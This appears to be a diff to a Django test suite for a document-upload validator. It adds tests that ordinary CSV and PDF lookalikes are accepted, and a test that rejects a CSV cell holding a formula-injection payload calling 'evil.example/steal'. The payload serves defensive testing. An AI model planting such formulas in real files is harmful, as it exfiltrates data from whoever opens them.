@@ -6,7 +6,7 @@ from django.test import Client
 from documents.models import Document
 from news.models import Article, ShareLink
 
-from . import files
+from . import files, pages
 from .factories import ArticleFactory, DocumentFactory
 from .files import upload
 from .test_public_pages import _count_queries
@@ -250,3 +250,73 @@ def test_documents_cannot_be_fetched_from_the_uploads_folder(client):
     document = DocumentFactory()
     assert document.file.name.startswith("documents/")
     assert client.get(f"/media/{document.file.name}").status_code == 404
+
+
+LINK = "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A %s >>"
+
+# Files that look a little like the hostile ones but are ordinary: (name, content, type).
+ORDINARY_LOOKALIKES = {
+    "signed numbers, phone numbers and dashes": (
+        "figures.csv",
+        b"trial,change,phone,note\nA,-3.5,+44 121 414 1234,-\nB,+2,-1,234.50,\n"
+        b'C,1e-5,"-1,234.50",-12%\n',
+        "CSV",
+    ),
+    "a byte-order mark and quoted text": (
+        "figures.csv",
+        b'\xef\xbb\xbfname,quote\nTrial,"She said ""=yes"" later"\n',
+        "CSV",
+    ),
+    "a semicolon file with decimal commas": ("figures.csv", b"year;change\n2021;-3,5\n", "CSV"),
+    "a tab-separated file with an empty first column": (
+        "figures.csv",
+        b"\tyear\tchange\nA\t2021\t-3.5\n",
+        "CSV",
+    ),
+    "a PDF with a web link": (
+        "report.pdf",
+        files.pdf_by_hand(
+            page="/Annots [4 0 R]",
+            objects=[LINK % "<< /S /URI /URI (https://www.nhs.uk/) >>"],
+        ),
+        "PDF",
+    ),
+    "a PDF whose objects are in a compressed stream": (
+        "report.pdf",
+        files.pdf_by_hand(
+            page="/Annots [4 0 R]",
+            objects=[LINK % "<< /S /GoTo /D [3 0 R /Fit] >>", "(JavaScript is only a word)"],
+            object_stream=True,
+        ),
+        "PDF",
+    ),
+    "a PDF whose objects refer to each other in a loop": (
+        "report.pdf",
+        files.pdf_by_hand(objects=["<< /Next 4 0 R /Also [4 0 R 5 0 R] >>", "[4 0 R]"]),
+        "PDF",
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "file_type"), ORDINARY_LOOKALIKES.values(), ids=ORDINARY_LOOKALIKES
+)
+def test_ordinary_files_that_resemble_hostile_ones_are_accepted(
+    comms_client, name, content, file_type
+):
+    form = pages.form(comms_client.get("/admin/documents/document/add/"), field="file")
+    response = form.submit(comms_client, title="Figures", file=upload(name, content))
+    assert response.status_code == 302, response.context["adminform"].form.errors
+    assert Document.objects.get().file_type == file_type
+
+
+def test_a_formula_message_says_where_the_cell_is_and_what_it_starts_with(comms_client):
+    form = pages.form(comms_client.get("/admin/documents/document/add/"), field="file")
+    content = b'name,link\nTrial,"=HYPERLINK(""https://evil.example/steal?data="",""Results"")"\n'
+    response = form.submit(comms_client, title="Figures", file=upload("figures.csv", content))
+    (error,) = response.context["adminform"].form.errors["file"]
+    assert error == (
+        "The cell in row 2, column B starts with “=”, so spreadsheet programs would run it "
+        'as a formula: “=HYPERLINK("https://evil.example/steal?d…”. Change it so that it '
+        "does not start with “=” and upload the file again."
+    )
